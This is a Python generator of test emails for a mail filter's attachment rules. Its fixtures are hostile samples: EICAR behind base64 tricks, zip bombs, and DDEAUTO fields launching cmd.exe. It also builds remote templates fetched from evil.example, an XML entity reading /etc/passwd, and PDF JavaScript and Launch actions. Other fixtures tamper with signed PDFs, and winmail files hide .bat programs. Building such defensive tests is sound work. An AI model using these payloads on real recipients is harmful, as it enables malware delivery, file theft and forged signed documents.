#!/usr/bin/python3
"""cases_make.py DIR CERTS: messages for MILTER.md's cases about MIME and attachments, DIR/<case>.eml, and DIR/cases.tsv: name, who sends it (staff,
office, citizen), the rule that decides, findings that must be there. CERTS is what smime_certs.sh made. All content is invented."""

import base64
import io
import pathlib
import struct
import subprocess
import sys
import zipfile
import zlib

DIR, CERTS = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2])
CASES = []
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def case(name, mail, rule, notes="", who=None):
    who = who or next((w for w, f in FROM.items() if f in mail), "citizen")
    (DIR / (name + ".eml")).write_bytes(mail)
    CASES.append((name, who, rule, notes))


def b64(data):
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


FROM = {"citizen": b"From: dan@y.example\r\n", "staff": b"From: manager@x.example\r\n", "office": b"From: vanthu@x.example\r\n"}


def entity(name, data, ctype="application/octet-stream"):
    quoted = "".join(c if c.isascii() and c.isalnum() or c in ".-_" else "".join("%%%02X" % b for b in c.encode()) for c in name)
    return (b"Content-Type: %s\r\nContent-Disposition: attachment; filename*=utf-8''%s\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            % (ctype.encode(), quoted.encode()) + b64(data))


def multipart(*parts, extra=b""):
    return (extra + b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=mix\r\n\r\n" +
            b"".join(b"--mix\r\n" + p.rstrip(b"\r\n") + b"\r\n" for p in parts) + b"--mix--\r\n")


def attached(name, data, ctype="application/octet-stream", who="citizen", extra=b""):
    return multipart(b"Content-Type: text/plain; charset=utf-8\r\n\r\nK\xc3\xadnh g\xe1\xbb\xadi", entity(name, data, ctype),
                     extra=FROM[who] + extra)


def zipped(*members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in members:
            z.writestr(name, data)
    return out.getvalue()


def program():
    head = bytearray(256)
    head[0:2] = b"MZ"
    struct.pack_into("<I", head, 0x3c, 128)
    head[128:132] = b"PE\0\0"
    return bytes(head)


def cms(content, name, *options):
    return subprocess.run(["openssl", "cms", "-sign", "-binary", "-outform", "DER", "-md", "sha256", "-signer", str(CERTS / (name + ".pem")),
                           "-inkey", str(CERTS / "k1.key"), *options], input=content, capture_output=True, check=True).stdout


def signed(content, who, extra=b""):
    key = {"staff": "manager", "office": "vanthu"}[who]
    return (FROM[who] + extra + b"MIME-Version: 1.0\r\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; "
            b"boundary=sig\r\n\r\n--sig\r\n" + content + b"\r\n--sig\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(cms(content, key)) + b"\r\n--sig--\r\n")


# --- 33: who reads what differs

PLAIN = b"Content-Type: text/plain\r\n"
case("case_33_two_transfer_encodings", FROM["citizen"] + b"Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n"
     b"Content-Transfer-Encoding: 7bit\r\n\r\n" + b64(b"x"), "M05", "mime_dup_header")
case("case_33b_two_content_types", FROM["citizen"] + PLAIN + b"Content-Type: text/html\r\n\r\nx", "M05", "mime_dup_header")
case("case_33c_two_boundaries", FROM["citizen"] + b"Content-Type: multipart/mixed; boundary=a; boundary=b\r\n\r\n--a\r\n\r\nx\r\n--a--\r\n"
     b"--b\r\n\r\ny\r\n--b--\r\n", "M05", "mime_dup_boundary")
case("case_33d_in_a_part", multipart(PLAIN + b"Content-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nx",
                                     extra=FROM["citizen"]), "M05", "mime_dup_header")
case("case_33e_two_names_the_worse_counts", FROM["citizen"] + b"Content-Type: application/pdf; name=a.exe\r\n"
     b"Content-Disposition: attachment; filename=a.pdf\r\n\r\n%PDF-1.4\r\n", "P22", "name_differs")

# --- 34: base64 that two readers decode differently

whole = base64.b64encode(EICAR)
case("case_34_eicar_behind_early_padding", FROM["citizen"] + b"Content-Type: text/plain; name=a.txt\r\nContent-Transfer-Encoding: base64\r\n\r\nAA==" +
     whole + b"\r\n", "M14")
case("case_34b_eicar_with_junk_inside", FROM["citizen"] + b"Content-Type: text/plain; name=a.txt\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
     whole[:10] + b"=\r\n" + whole[10:] + b"\r\n", "M14")
case("case_34c_eicar_as_it_is", attached("a.txt", EICAR, "text/plain"), "M13")
case("case_34d_unknown_encoding", FROM["citizen"] + b"Content-Type: text/plain; name=a.txt\r\nContent-Transfer-Encoding: base64x\r\n\r\n" +
     whole + b"\r\n", "M14")
case("case_34e_ordinary_text_speaks_of_it", FROM["citizen"] + PLAIN + b"\r\nThe EICAR-STANDARD-ANTIVIRUS-TEST-FILE is harmless.\r\n", "ok")

# --- 35: what cannot be looked into


def locked(data):
    out = bytearray(data)
    for magic, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        out[out.index(magic) + at] |= 1
    return bytes(out)


def seven_encrypted_header():
    """7zFormat.txt: an encoded header whose one folder is packed by 7zAES."""
    packed = bytes(range(48))
    header = (b"\x17\x06\x00\x01\x09\x30\x00\x07\x0b\x01\x00\x01\x24\x06\xf1\x07\x01\x0a\x53\x07" + bytes(8) + b"\x0c\x20\x00\x00")
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) + start + packed + header


case("case_35_encrypted_member", attached("a.zip", locked(zipped(("thu.txt", "x")))), "P23")
case("case_35b_encrypted_header", attached("a.7z", seven_encrypted_header()), "P23")
case("case_35c_encrypted_inside", attached("a.zip", zipped(("b.zip", locked(zipped(("thu.txt", "x")))))), "P23")

# --- 36: bombs

bomb = zipped(("x.txt", b"\0" * 1000))
for _ in range(12):
    bomb = zipped(("a.zip", bomb))
case("case_36_nested_twelve_deep", attached("a.zip", bomb), "M06")
layer = zipped(*[("%02d.txt" % n, b"\0" * (24 << 20)) for n in range(2)])
for _ in range(3):
    layer = zipped(*[("%02d.zip" % n, layer) for n in range(8)], method=zipfile.ZIP_STORED)
case("case_36b_42_style", attached("42.zip", layer), "M06")
case("case_36c_many_members", attached("a.zip", zipped(*[("%d.txt" % n, b"") for n in range(2500)])), "M06")

# --- 37: names and types

case("case_37_rtlo", attached("offer\u202efdp.exe", program()), "P24")
case("case_37b_double_extension", attached("a.pdf.exe", program()), "P22")
case("case_37c_program_named_pdf", attached("x.pdf", program(), "application/pdf"), "P24")
case("case_37d_dotted_version_is_nothing", attached("bao-cao.v1.2.txt", b"Kinh gui\r\n", "text/plain"), "ok")

# --- 38: office documents

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
W = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'
REL = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
       'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/></Relationships>')


def docx(body="", *more, types=""):
    return zipped(("[Content_Types].xml", TYPES % types), ("word/document.xml", W % body), *more)


def xlsx(*more, types=""):
    return zipped(("[Content_Types].xml", TYPES % types), ("xl/workbook.xml", "<workbook/>"), *more)


def field(*texts):
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + "".join("<w:r><w:instrText>%s</w:instrText></w:r>" % t for t in texts) +
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


case("case_38_vba", attached("a.docx", docx("", ("word/vbaProject.bin", b"x"))), "P22")
case("case_38b_vba_under_another_name", attached("a.docx", docx("", ("word/data.bin", b"x"), types='<Override PartName="/word/data.bin" '
     'ContentType="application/vnd.ms-office.vbaProject"/>')), "P22")
case("case_38c_xlm_macrosheet", attached("a.xlsx", xlsx(("xl/macrosheets/sheet1.xml", "<x/>"))), "P22")
case("case_38d_xlm_under_another_name", attached("a.xlsx", xlsx(("xl/worksheets/sheet9.xml", "<x/>"), types='<Override PartName='
     '"/xl/worksheets/sheet9.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>')), "P22")
case("case_38e_dde_field", attached("a.docx", docx('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/></w:p>')),
     "P22", "office_dde")
case("case_38f_dde_field_in_pieces", attached("a.docx", docx(field(" DD", "E", "AUTO cmd"))), "P22", "office_dde")
case("case_38g_dde_by_quote", attached("a.docx", docx(field(" QUOTE 68 68 69 65 85 84 79 32 99 109 100"))), "P22", "office_dde")
case("case_38s_dde_around_another_field", attached("a.docx", docx(field(" DDE", '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
     '<w:instrText> SET c "x" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>', "AUTO cmd"))), "P22", "office_dde")
case("case_38h_dde_link_of_a_sheet", attached("a.xlsx", xlsx(("xl/externalLinks/externalLink1.xml", '<externalLink xmlns="http://schemas.openxmlformats.org/'
     'spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'))), "P22", "office_dde")
case("case_38i_external_template", attached("a.docx", docx("", ("word/_rels/settings.xml.rels", REL % ("attachedTemplate", "https://evil.example/t.dotm")))),
     "M15", "office_external")
case("case_38j_external_object", attached("a.docx", docx("", ("word/_rels/document.xml.rels", REL % ("oleObject", "mhtml:http://evil.example/x!x")))),
     "M15", "office_external")
case("case_38k_template_on_a_share", attached("a.docx", docx("", ("word/_rels/settings.xml.rels", REL % ("attachedTemplate", "file://host/share/t.dotm")))),
     "M15", "office_external")
case("case_38l_local_template_is_ordinary", attached("a.docx", docx("<w:p/>", ("word/_rels/settings.xml.rels",
     REL % ("attachedTemplate", "file:///C:\\Users\\an\\Templates\\bao-cao.dotx")))), "ok")
case("case_38m_hyperlink_is_ordinary", attached("a.docx", docx(field(' HYPERLINK "http://x.example/dde" '), ("word/_rels/document.xml.rels",
     REL % ("hyperlink", "https://x.example/")))), "ok")
case("case_38n_page_numbers_are_ordinary", attached("a.docx", docx(field(" PAGE ", "\\* MERGEFORMAT") + field(' DATE \\@ "dd/MM/yyyy" '))), "ok")


def ole(*names):
    """The directory sector of an OLE2 file ([MS-CFB] 2.6)."""
    head = bytearray(512)
    head[:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    struct.pack_into("<HHHHH", head, 0x18, 0x3e, 3, 0xfffe, 9, 6)
    struct.pack_into("<I", head, 0x30, 0)
    out = b""
    for n, name in enumerate(("Root Entry",) + names):
        u = name.encode("utf-16-le") + b"\0\0"
        out += u.ljust(64, b"\0") + struct.pack("<HBB", len(u), 5 if n == 0 else 2, 1) + bytes(60)
    return bytes(head) + out.ljust(512, b"\0") + bytes(512)


case("case_38o_encrypted_docx", attached("a.docx", ole("EncryptionInfo", "EncryptedPackage")), "P23")
case("case_38p_vba_in_ole2", attached("a.doc", ole("WordDocument", "_VBA_PROJECT")), "P22")
case("case_38q_entities_are_not_expanded", attached("a.docx", zipped(("[Content_Types].xml", TYPES % ""), ("word/document.xml",
     '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "' + "y" * 1000 + '"><!ENTITY c "' + "&b;" * 1000 + '"><!ENTITY d "' +
     "&c;" * 1000 + '">]><w:document xmlns:w="w"><w:p><w:t>&a;&d;</w:t></w:p></w:document>'))), "ok")
case("case_38r_odf_basic", attached("a.odt", zipped(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<x/>"),
                                                    ("Basic/Standard/a.xml", "<x/>"))), "P22")

# --- 39: PDF


class Pdf:
    """A small PDF that can be added to: objects by number, each revision with its own table."""
    font_row = "/F1 5 0 R"

    def __init__(self, text="Xin chao", version="1.7", objects=(), catalog="", info=""):
        self.data, self.numbers, self.prev, self.fields = b"%PDF-" + version.encode() + b"\n%\xe2\xe3\xcf\xd3\n", {}, None, []
        self.extra = catalog
        show = b"BT /F1 14 Tf 72 770 Td 18 TL " + b" ".join(b"(%s) Tj T*" % t.encode("latin-1") for t in text.split("\n")) + b" ET"
        self.objects = {1: self.catalog(), 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: self.page(),
                        4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(show), show),
                        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>"}
        for n, o in enumerate(objects, 10):
            self.objects[n] = o if isinstance(o, bytes) else o.encode()
        if info:
            self.objects[6] = info.encode()
        self.info = b"/Info 6 0 R" if info else b""
        self.write(self.objects)

    def catalog(self):
        form = " /AcroForm << /SigFlags 3 /Fields [%s] >>" % " ".join("%d 0 R" % f for f in self.fields) if self.fields else ""
        return ("<< /Type /Catalog /Pages 2 0 R%s %s >>" % (form, self.extra)).encode()

    def page(self):
        annots = " /Annots [%s]" % " ".join("%d 0 R" % f for f in self.fields) if self.fields else ""
        return ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << %s >> >>%s >>" % (self.font_row, annots)).encode()

    def write(self, objects):
        rows = []
        for n in sorted(objects):
            rows.append((n, len(self.data)))
            self.data += b"%d 0 obj\n%s\nendobj\n" % (n, objects[n])
        start = len(self.data)
        self.numbers.update(rows)
        self.data += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(b"%d 1\n%010d 00000 n \n" % r for r in rows)
        prev = b" /Prev %d" % self.prev if self.prev else b""
        self.data += b"trailer\n<< /Size %d /Root 1 0 R %s%s >>\nstartxref\n%d\n%%%%EOF\n" % (max(self.numbers) + 1, self.info, prev, start)
        self.prev = start
        return self

    def sign(self, name, kind="ETSI.CAdES.detached", room=12000, options=("-cades",), spoil=None):
        n = max(self.numbers) + 1
        self.fields.append(n + 1)
        range_at = b"[0 %010d %010d %010d]"
        sig = (b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /%s /M (D:20261121080000+07'00') /ByteRange " % kind.encode() + range_at % (0, 0, 0) +
               b" /Contents <" + b"0" * room + b"> >>")
        before = len(self.data)
        self.write({1: self.catalog(), 3: self.page(), n: sig,
                    n + 1: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sig%d) /V %d 0 R /Rect [0 0 0 0] /P 3 0 R /F 132 >>" % (n, n)})
        at = self.data.index(b"/Contents <00", before) + len(b"/Contents ")
        end = at + room + 2
        numbers = (at, end, len(self.data) - end) if spoil is None else spoil(at, end, len(self.data) - end)
        self.data = self.data[:before] + self.data[before:].replace(range_at % (0, 0, 0), range_at % numbers, 1)
        der = cms(self.data[:numbers[0]] + self.data[numbers[1]:numbers[1] + numbers[2]], name, *options)
        self.data = self.data[:at + 1] + der.hex().encode().ljust(room, b"0") + self.data[end - 1:]
        return self

    def change(self, **objects):
        """A later revision with other content, as an editor saves it."""
        return self.write({int(k[1:]): v for k, v in objects.items()})


def qpdf(data, *options):
    (DIR / "in.pdf").write_bytes(data)
    subprocess.run(["qpdf", *options, str(DIR / "in.pdf"), str(DIR / "out.pdf")], check=True)
    return (DIR / "out.pdf").read_bytes()


def oracle(data):
    """What poppler's pdfsig says of a file."""
    (DIR / "in.pdf").write_bytes(data)
    return subprocess.run(["pdfsig", "-nocert", str(DIR / "in.pdf")], capture_output=True, env={"HOME": str(DIR), "PATH": "/usr/bin:/bin"}).stdout.decode()


def pdfmail(pdf, who="citizen", extra=b"", name="van-ban.pdf"):
    data = pdf.data if isinstance(pdf, Pdf) else pdf
    return attached(name, data, "application/pdf", who, extra)


def issued(*parts, subject="15/QĐ-UBND Về việc phê duyệt kế hoạch", mark="15/QĐ-UBND"):
    """Official mail of the office, signed with its key."""
    return signed(multipart(PLAIN + b"\r\nKinh gui", *parts), "office", "X-VN-Doc: %s\r\nSubject: ".encode() % mark.encode() +
                  (b"=?utf-8?b?%s?=" % base64.b64encode(subject.encode()) if subject else b"") + b"\r\n")


def page_of(data, name="van-ban.pdf"):
    return entity(name, data.data if isinstance(data, Pdf) else data, "application/pdf")


SCRIPT = Pdf(catalog="/OpenAction 10 0 R", objects=["<< /S /JavaScript /JS (app.alert\\(1\\)) >>"])
packed = qpdf(SCRIPT.data, "--object-streams=generate")
assert b"JavaScript" not in packed
case("case_39_javascript_in_an_object_stream", pdfmail(packed), "P22", "pdf_javascript")
case("case_39b_javascript_in_the_open", pdfmail(SCRIPT), "P22", "pdf_javascript")
case("case_39c_javascript_by_hash_in_a_torn_file", pdfmail(b"%PDF-1.4\n1 0 obj<</S /Java#53cript /JS 2 0 R>>endobj\n"), "P22", "pdf_javascript")
case("case_39d_launch", pdfmail(Pdf(objects=["<< /S /Launch /F (cmd.exe) >>"], catalog="/OpenAction 10 0 R")), "P22", "pdf_launch")
case("case_39e_rich_media", pdfmail(Pdf(objects=["<< /Type /Annot /Subtype /RichMedia >>"], catalog="/X 10 0 R")), "P22", "pdf_rich_media")
case("case_39f_embedded_program", pdfmail(Pdf(catalog="/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>", objects=[
     "<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 11 0 R >> >>", b"<< /Length 256 >>\nstream\n" + program() + b"\nendstream"])),
     "P22", "pdf_embedded_files")
case("case_39g_embedded_program_under_another_name", pdfmail(qpdf(Pdf(catalog="/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>", objects=[
     "<< /Type /Filespec /F (a.pdf) /EF << /F 11 0 R >> >>", b"<< /Length 256 >>\nstream\n" + program() + b"\nendstream"]).data, "--compress-streams=y",
     "--object-streams=generate")), "P24")
case("case_39h_password", pdfmail(qpdf(Pdf().data, "--encrypt", "x", "y", "256", "--")), "P23")
case("case_39i_encrypted_without_a_password", pdfmail(qpdf(SCRIPT.data, "--encrypt", "", "y", "256", "--")), "P22", "pdf_encrypted")
case("case_39j_ordinary", pdfmail(Pdf(catalog="/OpenAction [3 0 R /XYZ null null 0]")), "ok")
case("case_39k_linearized_is_ordinary", pdfmail(qpdf(Pdf().data, "--linearize")), "ok")
case("case_39l_data_behind_the_end", pdfmail(Pdf().data + b"PK\3\4 something"), "ok", "pdf_trailing_data")
case("case_39m_xfa_is_told", pdfmail(Pdf(catalog="/AcroForm << /Fields [] /XFA 10 0 R >>", objects=[b"<< /Length 3 >>\nstream\n<x>\nendstream"])), "ok", "pdf_xfa")

OTHER = b"BT /F1 14 Tf 72 770 Td (Khac voi ban ky) Tj ET"
EVIL = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(OTHER), OTHER)
whole = Pdf().sign("manager")
said = oracle(whole.data)
assert "Signature is Valid" in said and "Total document signed" in said, said
case("case_39n_signed_pdf", pdfmail(whole, "staff"), "ok")
case("case_39o_later_page_change", pdfmail(Pdf().sign("manager").change(o4=EVIL), "staff"), "M12", "pdf_sig_not_covering")
case("case_39p_from_outside_too", pdfmail(Pdf().sign("manager").change(o4=EVIL)), "M12", "pdf_sig_not_covering")
case("case_39q_a_page_drawn_over", pdfmail(Pdf().sign("manager").change(o3=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 20 0 R] /Resources "
     b"<< /Font << /F1 5 0 R >> >> >>", o20=EVIL), "staff"), "M12", "pdf_sig_not_covering")
case("case_39r_an_annotation_added", pdfmail(Pdf().sign("manager").change(o3=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources "
     b"<< /Font << /F1 5 0 R >> >> /Annots [7 0 R 20 0 R] >>", o20=b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 99 99] /Contents (x) >>"), "staff"),
     "M12", "pdf_sig_not_covering")
case("case_39s_a_second_signature_changes_nothing", pdfmail(Pdf().sign("manager").sign("vanthu"), "staff"), "ok", "pdf_sig_later_update")


class Heir(Pdf):
    """The page has its fonts from the node above it."""

    def page(self):
        return Pdf.page(self).replace(b" /Resources << /Font << /F1 5 0 R >> >>", b"")

    def font(self, n):
        return self.change(o2=b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Resources << /Font << /F1 %d 0 R >> >> >>" % n,
                           o20=b"<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>")


class Named(Pdf):
    """Names that the author made up."""

    def page(self):
        return Pdf.page(self).replace(b"/F1 5 0 R >>", b"/F1 5 0 R /Parent 10 0 R >> /XObject << /Type /Catalog /P 11 0 R /Metadata 11 0 R >>")


FORM = b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Length %d >>\nstream\n%s\nendstream" % (len(OTHER), OTHER)
NAMED = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>", FORM)
OVER = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sig20) /Rect [0 0 595 842] /P 3 0 R /F 132 %s >>"
ADDED = Pdf().page().replace(b">> >> >>", b">> >> /Annots [7 0 R 20 0 R] >>")
case("case_39x_inherited_fonts_stay", pdfmail(Heir().font(5).sign("manager").sign("vanthu"), "staff"), "ok", "pdf_sig_later_update")
case("case_39xb_inherited_fonts_changed", pdfmail(Heir().font(5).sign("manager").font(20), "staff"), "M12", "pdf_sig_not_covering")
case("case_39xc_names_stay", pdfmail(Named(objects=NAMED).sign("manager").sign("vanthu"), "staff"), "ok", "pdf_sig_later_update")
case("case_39xd_a_font_named_like_a_parent", pdfmail(Named(objects=NAMED).sign("manager").change(o10=NAMED[0].replace(b"Times-Roman", b"Symbol")), "staff"),
     "M12", "pdf_sig_not_covering")
case("case_39xe_a_form_named_like_a_page", pdfmail(Named(objects=NAMED).sign("manager").change(o11=FORM.replace(b"Khac", b"Kham")), "staff"),
     "M12", "pdf_sig_not_covering")
case("case_39xf_an_empty_field_added", pdfmail(Pdf().sign("manager").change(o3=ADDED, o20=OVER % b""), "staff"), "ok", "pdf_sig_later_update")
case("case_39xg_a_field_drawn_over_the_page", pdfmail(Pdf().sign("manager").change(o3=ADDED, o20=OVER % b"/AP << /N 21 0 R >>", o21=FORM), "staff"),
     "M12", "pdf_sig_not_covering")
case("case_39xh_a_note_that_says_it_is_a_field", pdfmail(Pdf().sign("manager").change(o3=ADDED, o20=(OVER % b"/Contents (x)").replace(b"Widget", b"FreeText")), "staff"),
     "M12", "pdf_sig_not_covering")
both = oracle(Pdf().sign("manager").sign("vanthu").data)
assert both.count("Signature is Valid") == 2, both
altered = Pdf().sign("manager")
altered.data = altered.data.replace(b"(Xin chao)", b"(Xin chap)")
assert "Signature is Invalid" in oracle(altered.data) or "Digest Mismatch" in oracle(altered.data)
case("case_39t_a_signed_byte_changed", pdfmail(altered, "staff"), "P20")
case("case_39u_range_leaves_out_more", pdfmail(Pdf().sign("manager", spoil=lambda a, b, c: (a - 40, b, c)), "staff"), "P20", "pdf_sig_not_covering")
case("case_39v_range_ends_early", pdfmail(Pdf().sign("manager", spoil=lambda a, b, c: (a, b, c - 60)), "staff"), "M12", "pdf_sig_not_covering")
case("case_39w_old_kind_of_signature", pdfmail(Pdf().sign("manager", kind="adbe.pkcs7.sha1"), "staff"), "ok")

# --- P18 to P21: what the office issues

case("doc_p18_too_old", issued(page_of(Pdf(version="1.3"))), "P18", "pdf_old_version", who="office")
case("doc_p18_damaged", issued(page_of(Pdf().data[:-300])), "P18", "pdf_damaged", who="office")
case("doc_p18_version_in_the_catalog", issued(page_of(Pdf(version="1.3", catalog="/Version /1.5"))), "ok", "P19", who="office")
case("doc_p18_everyday_mail_may", pdfmail(Pdf(version="1.3"), "staff"), "ok", "pdf_old_version", who="staff")
case("doc_p19_both", issued(page_of(Pdf().sign("manager").sign("vanthu"))), "ok", "-P19", who="office")
case("doc_p19_no_seal", issued(page_of(Pdf().sign("manager"))), "ok", "P19", who="office")
case("doc_p19_no_leader", issued(page_of(Pdf().sign("vanthu"))), "ok", "P19", who="office")
case("doc_p19_unsigned", issued(page_of(Pdf())), "ok", "P19", who="office")
case("doc_p19_a_strangers_seal", issued(page_of(Pdf().sign("manager").sign("stranger"))), "ok", "P19", who="office")
case("doc_p20_page_change", issued(page_of(Pdf().sign("manager").sign("vanthu").change(o4=EVIL))), "P20", "pdf_sig_not_covering", who="office")
case("doc_p20_seal_then_text", issued(page_of(Pdf().sign("manager").change(o4=EVIL).sign("vanthu"))), "P20", "pdf_sig_not_covering", who="office")
case("doc_p21_appendix_unsigned", issued(page_of(Pdf().sign("manager").sign("vanthu")), page_of(Pdf(), "phu-luc.pdf")), "ok", "P21", who="office")
case("doc_p21_appendix_signed", issued(page_of(Pdf().sign("manager").sign("vanthu")), page_of(Pdf().sign("vanthu"), "phu-luc.pdf")), "ok", "-P21", who="office")

# --- 40: fragments, TNEF, depth, and a signature that whitelists nothing

case("case_40_message_partial", FROM["citizen"] + b"Content-Type: message/partial; id=a; number=1; total=2\r\n\r\nx", "P22")
case("case_40b_external_body", FROM["citizen"] + b"Content-Type: message/external-body; access-type=url; URL=\"http://y.example/\"\r\n\r\n", "P22")


def tnef(*attributes):
    return struct.pack("<IH", 0x223e9f78, 1) + b"".join(
        struct.pack("<BHHI", level, att, kind, len(v)) + v + struct.pack("<H", sum(v) & 0xffff) for level, att, kind, v in attributes)


def props(*values):
    out = struct.pack("<I", len(values))
    for kind, pid, v in values:
        out += struct.pack("<HHII", kind, pid, 1, len(v)) + v + bytes(-len(v) % 4)
    return out


REND = (2, 0x9002, 6, bytes(14))
case("case_40c_winmail_with_bat", attached("winmail.dat", tnef((1, 0x9006, 8, b"\0\0\1\0"), REND, (2, 0x8010, 1, b"run.bat\0"),
     (2, 0x800f, 6, b"@echo off\r\n")), "application/ms-tnef"), "P22")
case("case_40d_winmail_long_name_only", attached("winmail.dat", tnef(REND, (2, 0x8010, 1, b"a.txt\0"), (2, 0x800f, 6, b"x"), (2, 0x9005, 6,
     props((0x1f, 0x3707, "chạy.bat\0".encode("utf-16-le"))))), "application/ms-tnef"), "P22")
case("case_40e_winmail_program_as_property", attached("winmail.dat", tnef(REND, (2, 0x9005, 6, props((0x1e, 0x3707, b"a.pdf\0"),
     (0x102, 0x3701, program())))), "application/ms-tnef"), "P24")
case("case_40f_winmail_in_winmail", attached("winmail.dat", tnef(REND, (2, 0x8010, 1, b"w.dat\0"), (2, 0x800f, 6, tnef(REND,
     (2, 0x8010, 1, b"x.bat\0"), (2, 0x800f, 6, b"x")))), "application/ms-tnef"), "P22")
case("case_40g_winmail_with_a_text_is_ordinary", attached("winmail.dat", tnef((1, 0x800c, 2, "Kính gửi".encode()), REND,
     (2, 0x8010, 1, b"a.txt\0"), (2, 0x800f, 6, b"x")), "application/ms-tnef"), "ok")
deep = b"From: a@y.example\r\nSubject: x\r\n\r\nx\r\n"
for _ in range(50):
    deep = b"From: a@y.example\r\nContent-Type: message/rfc822\r\n\r\n" + deep
case("case_40h_rfc822_fifty_deep", deep, "M05", "mime_too_deep")
deep = b"From: a@y.example\r\nSubject: x\r\n\r\nx\r\n"
for _ in range(20):
    deep = b"From: a@y.example\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(deep)
case("case_40i_rfc822_in_base64_twenty_deep", deep, "M05", "mime_too_deep")
case("case_40j_signed_and_malware", signed(entity("a.txt", EICAR, "text/plain"), "staff"), "M13", who="staff")
case("case_40k_signed_and_a_program", signed(entity("a.exe", program()), "staff"), "P22", who="staff")

# --- P12 in documents

SECRET = "UBND TỈNH MẪU\nTỐI MẬT\nSố: 15/BC-UBND"


def unicode_pdf(text):
    """Lines of any letters: a composite font with a table to Unicode, as word processors write it."""
    letters = sorted(set(text) - {"\n"})
    code = {c: n for n, c in enumerate(letters, 1)}
    show = b"BT /F2 14 Tf 72 770 Td 18 TL " + b" ".join(b"<%s> Tj T*" % b"".join(b"%04X" % code[c] for c in line) for line in text.split("\n")) + b" ET"
    cmap = (b"/CIDInit /ProcSet findresource begin\n1 begincodespacerange <0000> <FFFF> endcodespacerange\n%d beginbfchar\n" % len(letters) +
            b"".join(b"<%04X> <%s>\n" % (code[c], c.encode("utf-16-be").hex().encode()) for c in letters) + b"endbfchar\nendcmap\n")
    p = Pdf()
    p.font_row = "/F2 20 0 R"
    p.write({3: p.page(), 4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(show), show),
             20: b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [21 0 R] /ToUnicode 22 0 R >>",
             21: b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /DW 500 /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor 23 0 R >>",
             23: b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>",
             22: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(cmap), cmap)})
    return p


packed = qpdf(unicode_pdf(SECRET).data, "--object-streams=generate")
(DIR / "in.pdf").write_bytes(packed)
assert "TỐI MẬT" in subprocess.run(["pdftotext", str(DIR / "in.pdf"), "-"], capture_output=True).stdout.decode()
case("doc_p12_in_a_pdf", pdfmail(packed, "staff"), "P12", "secrecy_mark")
case("doc_p12_in_a_pdf_letter_by_letter", pdfmail(unicode_pdf("UBND\nT U Y Ệ T  M Ậ T"), "staff"), "P12", "secrecy_mark")
